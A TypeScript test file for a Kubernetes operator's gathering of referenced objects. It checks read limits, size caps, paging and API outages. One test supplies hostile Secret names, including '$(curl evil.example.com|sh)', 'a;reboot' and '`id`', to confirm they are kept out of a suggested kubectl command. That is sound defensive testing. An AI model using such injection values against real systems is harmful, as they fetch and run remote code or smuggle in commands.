import assert from "node:assert/strict";
import type { KubernetesObject } from "../../runtime/base/objects";
import type { KubernetesClient } from "../../runtime/kubernetes/client";
import { ApiError } from "../../runtime/kubernetes/errors";
import { DirectUse } from "../../runtime/observe/uses/directUse";
import { gatherUsed, type UsedSource } from "../../runtime/observe/uses/used";
import type { Use } from "../../runtime/operator/definition";
import { failureOf } from "./support/failures";
import { observed, widget } from "./support/objects";

const CONFIG_MAP = { apiVersion: "v1", kind: "ConfigMap", plural: "configmaps" };
const OPERATOR = { installation: "argosy", name: "shop", formerNames: [], namespaces: "all" } as const;

describe("gatherUsed", () => {
  /** How often the source was asked for an object. */
  let reads: number;
  const source = (found?: KubernetesObject): UsedSource => ({
    problemOf: async () => undefined,
    get: async () => {
      reads++;
      return found;
    },
    list: async () => {
      reads++;
    },
  });
  const gather = (
    use: Partial<Use>,
    list: string[],
    event: "reconcile" | "finalize",
    found?: KubernetesObject,
  ) =>
    gatherUsed(
      { ...OPERATOR, uses: { mounts: { ...CONFIG_MAP, ...use } } },
      widget({}, { spec: { list } }),
      event,
      source(found),
    );
  beforeEach(() => {
    reads = 0;
  });

  for (const use of [{ name: "spec.list[*]" }, { labels: { team: "spec.list[*]" } }]) {
    it(`reads nothing of more than 500 that an object names by ${Object.keys(use)}, and does not keep it from going`, async () => {
      const list = Array.from({ length: 501 }, (_, index) => `name-${index}`);
      const { reason, message } = await failureOf(() => gather(use, list, "reconcile"));
      assert.equal(reason, "UsedNotReadable");
      assert.match(message, /^uses\.mounts: the object names more than 500 objects, or values of a label\./);
      const { used, warnings } = await gather(use, list, "finalize");
      assert.deepEqual([used, warnings], [{ mounts: [] }, [{ reason: "UsedNotReadable", note: message }]]);
      assert.equal(reads, 0);
      await gather(use, list.slice(1), "reconcile");
      assert.ok(reads > 0);
    });
  }

  for (const use of [{ name: "spec.list[*]" }, { labels: { team: "spec.list[*]" } }])
    it(`asks for no kind of which an object refers to nothing by ${Object.keys(use)}`, async () => {
      const uses = { mounts: { ...CONFIG_MAP, ...use } };
      const problemOf = async () => assert.fail("the kind cannot be read");
      const object = widget({}, { spec: { list: [] } });
      const gathered = await gatherUsed({ ...OPERATOR, uses }, object, "reconcile", {
        ...source(),
        problemOf,
      });
      assert.deepEqual(gathered, { used: { mounts: [] }, warnings: [], secrets: [] });
    });

  it("tells how to label the Secrets that are not given, and puts no other text of an object into that command", async () => {
    const SECRET = { apiVersion: "v1", kind: "Secret", plural: "secrets" };
    const noteOf = async (...list: string[]) =>
      (await gather({ ...SECRET, name: "spec.list[*]" }, list, "reconcile")).warnings[0]?.note ?? "";
    const command = /kubectl -n shop label secret ([^`]+) argosy\.dev\/used-by=argosy\.shop\./;
    assert.equal(command.exec(await noteOf("one", "two.three"))?.[1], "one two.three");
    const evil = ["$(curl evil.example.com|sh)", "--all", "-n", "a;reboot", "a b", "`id`", "Upper", "~", "*"];
    const note = await noteOf("one", ...evil);
    assert.equal(command.exec(note)?.[1], "one");
    for (const name of evil) assert.ok(note.includes(` shop/${name}`), name);
    const other = await noteOf(...evil);
    assert.doesNotMatch(other, /kubectl/);
    assert.match(other, /argosy\.dev\/used-by=argosy\.shop/);
  });

  it("fails if all of it is larger than 8 MiB, and does not keep an object from going", async () => {
    const large = observed("ConfigMap", { data: { text: "x".repeat(1024 * 1024) } }, { name: "a" });
    const list = Array.from({ length: 9 }, (_, index) => `name-${index}`);
    const use = { name: "spec.list[*]" };
    const { reason, message } = await failureOf(() => gather(use, list, "reconcile", large));
    assert.equal(reason, "UsedNotReadable");
    const { used, warnings } = await gather(use, list, "finalize", large);
    assert.deepEqual([used, warnings.map(({ note }) => note)], [{ mounts: [] }, [message]]);
    assert.equal((await gather(use, list.slice(2), "reconcile", large)).warnings.length, 0);
    // Each of these characters has three bytes.
    const wide = observed("ConfigMap", { data: { text: "語".repeat(400_000) } }, { name: "a" });
    assert.equal((await failureOf(() => gather(use, list, "reconcile", wide))).reason, "UsedNotReadable");
    assert.equal((await gather(use, list.slice(3), "reconcile", wide)).warnings.length, 0);
  });

  describe("of objects that are long, however many an object refers to,", () => {
    const large = observed("ConfigMap", { data: { text: "x".repeat(1024 * 1024) } });
    const operator = (use: object) => ({ ...OPERATOR, uses: { mounts: { ...CONFIG_MAP, ...use } } });
    const list = Array.from({ length: 500 }, (_, index) => `name-${index}`);
    const user = widget({}, { spec: { list } });

    it("reads no more by name than shows that they are too long, and few at once", async () => {
      let [reading, most] = [0, 0];
      const slow: UsedSource = {
        ...source(),
        get: async () => {
          reads++;
          most = Math.max(most, ++reading);
          await new Promise(setImmediate);
          reading--;
          return large;
        },
      };
      const gathering = gatherUsed(operator({ name: "spec.list[*]" }), user, "reconcile", slow);
      assert.equal((await failureOf(() => gathering)).reason, "UsedNotReadable");
      assert.ok(reads <= 16 && most <= 8, `${reads} reads, ${most} at once`);
    });

    it("reads no more pages of a list than show that they are too long", async () => {
      let pages = 0;
      const client = {
        list: async (_: unknown, __: unknown, onPage: (items: KubernetesObject[]) => void) => {
          for (; pages < 500; pages++) onPage([large]);
        },
      } as unknown as KubernetesClient;
      const uses = operator({ labels: { team: "'a'" } });
      const direct = new DirectUse(uses, client);
      const gathering = gatherUsed(uses, user, "reconcile", direct);
      assert.equal((await failureOf(() => gathering)).reason, "UsedNotReadable");
      assert.ok(pages < 9, `${pages} pages`);
    });

    it("gives those of another use, to finalize", async () => {
      const both = { ...operator({ name: "spec.list[*]" }).uses, one: { ...CONFIG_MAP, name: "'one'" } };
      const small = observed("ConfigMap", { data: {} }, { name: "one" });
      const all: UsedSource = { ...source(), get: async (_, { name }) => (name === "one" ? small : large) };
      const { used } = await gatherUsed({ ...OPERATOR, uses: both }, user, "finalize", all);
      assert.deepEqual(used, { mounts: [], one: small });
    });
  });

  it("waits in a run for a while until the API server says how a kind is served, then says so or finalizes without it", async () => {
    const read = () => Promise.reject(new ApiError(503, { message: "service unavailable" }, "GET"));
    const uses = {
      metrics: { apiVersion: "metrics.k8s.io/v1beta1", kind: "PodMetrics", plural: "pods", name: "spec.pod" },
    };
    const operator = { ...OPERATOR, uses };
    const direct = new DirectUse(operator, { read } as unknown as KubernetesClient);
    const object = widget({}, { spec: { pod: "web" } });
    await assert.rejects(gatherUsed(operator, object, "finalize", direct), /service unavailable/);
    const now = performance.now.bind(performance);
    Object.defineProperty(performance, "now", { configurable: true, value: () => now() + 11_000 });
    try {
      const { reason, message } = await failureOf(() => gatherUsed(operator, object, "reconcile", direct));
      assert.equal(reason, "UsedNotReadable");
      assert.match(message, /^uses\.metrics: PodMetrics cannot be listed: .*service unavailable/);
      const { used, warnings } = await gatherUsed(operator, object, "finalize", direct);
      assert.deepEqual([used, warnings], [{ metrics: null }, [{ reason: "UsedNotReadable", note: message }]]);
    } finally {
      Reflect.deleteProperty(performance, "now");
    }
  });
});
